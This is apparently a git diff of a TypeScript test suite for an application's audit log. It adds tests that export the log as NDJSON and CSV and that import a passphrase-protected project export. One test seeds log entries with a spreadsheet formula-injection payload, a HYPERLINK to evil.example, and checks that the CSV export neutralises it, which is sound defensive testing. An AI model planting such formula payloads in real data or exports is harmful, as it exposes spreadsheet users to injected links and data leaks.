@@ -3,9 +3,10 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { operationsOf, requestOf, type Operation } from '../access-requests.ts';
 import { fill, openProject, type Refs, type World } from '../access-world.ts';
 import { auditPartitions } from '../../src/events/index.ts';
+import { newId } from '../../src/kit/ids.ts';
 import { keepPartitions } from '../../src/kit/db/partitions.ts';
 import { createTestDatabase, type TestDatabase } from '../database.ts';
-import { startPlatform, type Answer, type Platform } from '../platform.ts';
+import { startPlatform, type Answer, type CallOptions, type Platform } from '../platform.ts';
 
 interface Entry {
   id: string;
@@ -22,8 +23,12 @@ interface Page {
   pagination: { done: boolean; nextPageToken?: string };
 }
 
-/** Management operations that write nothing of their own: none may be added without a reason. */
-const silent = new Set<string>();
+/** What a person does with an account of their own, by a cookie; `people-account.test.ts` looks for its entries. */
+const ofPeople = /^\/v1\/(session|person|invitations:)/;
+/** Those that cannot succeed here: `people-links.test.ts` and `transfer.test.ts` look for their entries. */
+const elsewhere = new Set(['removeMember', 'importProject']);
+/** Management operations that write nothing of their own: none may be added without a reason. A dry run shows what was sent to it. */
+const silent = new Set(['previewWrite']);
 
 describe('test/journeys/audit', () => {
   let test: TestDatabase;
@@ -70,7 +75,12 @@ describe('test/journeys/audit', () => {
       world.globex.operation,
       JSON.stringify(outcome),
     ]);
+    const passphrase = 'correct horse battery staple';
+    const { body: made } = await world.platform.call<{ file: object }>('POST', '/projects/audited/exports', {
+      passphrase,
+    });
     return {
+      importProject: () => ({ passphrase, file: made.file }),
       createJWTKey: () => ({ label: 'audited', algorithm: 'RS256', publicKeyPem: publicKey }),
       generateConnection: ({ group }) => ({
         provider: 'hubspot',
@@ -131,7 +141,10 @@ describe('test/journeys/audit', () => {
     ];
     const keys = (await world.makeKey({ scopes: ['full'] })).key;
     const changing = operations
-      .filter(({ method, path }) => method !== 'GET' && path.startsWith('/v1/'))
+      .filter(
+        ({ method, path, operationId }) =>
+          method !== 'GET' && path.startsWith('/v1/') && !ofPeople.test(path) && !elsewhere.has(operationId),
+      )
       .sort(
         (a, b) =>
           last.indexOf(a.operationId) - last.indexOf(b.operationId) ||
@@ -197,6 +210,44 @@ describe('test/journeys/audit', () => {
     const { key } = await world.makeKey({ scopes: ['read'] });
     expect((await platform.call('GET', log, undefined, { key })).status).toBe(403);
     expect((await platform.call('GET', log)).status).toBe(404);
+  });
+
+  it('leaves whole or of a time, as JSON or as a table that a spreadsheet only reads', async () => {
+    const hostile = '=HYPERLINK("https://evil.example?x,y")\nnext';
+    const ids = Array.from({ length: 1_200 }, () => newId());
+    const { projectId } = world.platform;
+    await test.database.raw(
+      `INSERT INTO audit_log (project_id, id, action, target_type, target_id, actor_kind, group_ref, details)
+       SELECT $1, id, 'topic.created', 'topic', '  @sum', 'jwt', $3, '{"a": "=1"}' FROM unnest($2::uuid[]) AS id`,
+      [projectId, ids, hostile],
+    );
+    const exported = (query: string, options: CallOptions = {}) =>
+      world.platform.call<string>('GET', `${log}:export${query}`, undefined, options);
+    const json = await exported('');
+    expect(json.headers.get('content-type')).toBe('application/x-ndjson; charset=utf-8');
+    const lines = json.text.trimEnd().split('\n');
+    const entries = lines.map((line) => JSON.parse(line) as Entry);
+    const newest = await read('?pageSize=1000');
+    expect(entries.slice(0, 1000)).toEqual(newest);
+    expect(new Set(entries.map(({ id }) => id)).size).toBe(entries.length);
+    expect(entries.filter(({ actor }) => actor.groupRef === hostile)).toHaveLength(1_200);
+    // The project itself was made first.
+    expect(entries.at(-1)?.action).toBe('project.created');
+    const before = new Date(Date.parse(entries.at(-1)?.time ?? '') - 60_000).toISOString();
+    expect((await exported(`?to=${before}`)).text).toBe('');
+
+    const csv = await exported(`?format=csv&from=${before}`);
+    expect(csv.headers.get('content-disposition')).toBe('attachment; filename="audit-log.csv"');
+    const [head, ...rows] = csv.text.split('\r\n');
+    expect(head).toMatch(/^id,time,action,targetType,targetId,actorKind,.*,details$/);
+    expect(rows[0]).toBe(
+      `"${entries[0]?.id}","${entries[0]?.time}","topic.created","topic","'  @sum","jwt","","'=HYPERLINK(""https://evil.example?x,y"")\nnext","","","","","","{""a"":""=1""}"`,
+    );
+    expect(rows).toHaveLength(entries.length + 1);
+    expect((await exported('?format=xls')).status).toBe(400);
+    const { key } = await world.makeKey({ scopes: ['view'] });
+    const listed = await world.platform.call('GET', log, undefined, { key });
+    expect((await exported('', { key })).status).toBe(listed.status);
   });
 
   it('a change that fails leaves no entry', async () => {
